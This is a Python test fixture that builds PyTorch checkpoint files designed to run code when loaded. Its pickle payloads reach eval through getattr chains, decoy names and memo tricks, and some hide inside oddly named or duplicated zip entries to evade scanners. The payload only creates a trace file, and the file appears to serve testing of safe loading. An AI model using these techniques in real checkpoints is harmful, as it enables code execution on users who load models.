"""Checkpoints made to run code when they are read: each would create a file."""

import io
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

TRACE = 'code_was_run'
CODE = f"open('{TRACE}', 'w')"

PROTO_2, PROTO_4 = pickle.PROTO + b'\x02', pickle.PROTO + b'\x04'


def named(module: str, name: str) -> bytes:
    """Push a global by its name."""
    return pickle.GLOBAL + f'{module}\n{name}\n'.encode()


def text(value: str) -> bytes:
    """Push a string."""
    content = value.encode()
    return pickle.BINUNICODE + len(content).to_bytes(4, 'little') + content


def call(function: bytes, *arguments: bytes) -> bytes:
    """Push what a function returns."""
    return function + pickle.MARK + b''.join(arguments) + pickle.TUPLE + pickle.REDUCE


def by_plain_names() -> bytes:
    """Reach `eval` through attributes of a class that trainings may hold."""
    read = named('__builtin__', 'getattr')
    init = call(read, named('argparse', 'Namespace'), text('__init__'))
    names = call(read, init, text('__globals__'))
    builtins = call(call(read, names, text('get')), text('__builtins__'))
    function = call(call(read, builtins, text('get')), text('eval'))
    return PROTO_2 + call(function, text(CODE)) + pickle.STOP


def by_name(name: str = 'eval') -> bytes:
    """Name `eval` outright."""
    return PROTO_2 + call(named('__builtin__', name), text(CODE)) + pickle.STOP


def by_a_decoy() -> bytes:
    """Push the true name, then another that is taken from the stack again."""
    decoy = text('collections') + text('OrderedDict')
    function = text('builtins') + text('eval') + decoy + pickle.POP * 2
    return PROTO_4 + call(function + pickle.STACK_GLOBAL, text(CODE)) + pickle.STOP


def by_memory() -> bytes:
    """Keep the true name in the memo, and push another after it."""
    keep = text('eval') + pickle.BINPUT + b'\x07' + pickle.POP
    decoy = text('OrderedDict') + pickle.POP
    function = keep + text('builtins') + decoy + pickle.BINGET + b'\x07'
    return PROTO_4 + call(function + pickle.STACK_GLOBAL, text(CODE)) + pickle.STOP


def plain() -> bytes:
    """Hold nothing but an empty state dict."""
    return pickle.dumps({'state_dict': {}}, 2)


def earlier_format(content: bytes) -> bytes:
    """A file as torch wrote them before 1.6."""
    system = dict(protocol_version=1001, little_endian=True, type_sizes={})
    head = [torch.serialization.MAGIC_NUMBER, 1001, system]
    parts = [pickle.dumps(part, 2) for part in head]
    return b''.join([*parts, content, pickle.dumps([], 2)])


def archive(*contents: bytes, names: tuple[str, ...] = ('data.pkl',)) -> bytes:
    """A file as torch writes them now; contents beyond the names repeat the last."""
    stream = io.BytesIO()
    torch.save({}, stream)
    with zipfile.ZipFile(stream) as whole:
        entries = [(name, whole.read(name)) for name in whole.namelist()]
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w') as file:
        for name, data in entries:
            if not name.endswith('data.pkl'):
                file.writestr(name, data)
                continue
            for i, content in enumerate(contents):
                written = name.replace('data.pkl', names[min(i, len(names) - 1)])
                with warnings.catch_warnings():  # of a second entry of the name
                    warnings.simplefilter('ignore')
                    file.writestr(written, content)
    return stream.getvalue()


ATTACKS: dict[str, Callable[[], bytes]] = {
    'plain names': lambda: archive(by_plain_names()),
    'plain names, earlier format': lambda: earlier_format(by_plain_names()),
    'decoy': lambda: archive(by_a_decoy()),
    'decoy, earlier format': lambda: earlier_format(by_a_decoy()),
    'memo': lambda: archive(by_memory()),
    'archive appended': lambda: earlier_format(by_name()) + archive(plain()),
    'first of two entries': lambda: archive(by_name(), plain()),
    'last of two entries': lambda: archive(plain(), by_name()),
    'two entries, one in capitals': lambda: archive(
        by_name(), plain(), names=('DATA.PKL', 'data.pkl')
    ),
    'entry in capitals': lambda: archive(by_name(), names=('DATA.PKL',)),
}


def write(folder: Path, name: str) -> Path:
    """Write one of the attacks into a folder."""
    path = folder / 'weights.pth'
    path.write_bytes(ATTACKS[name]())
    return path
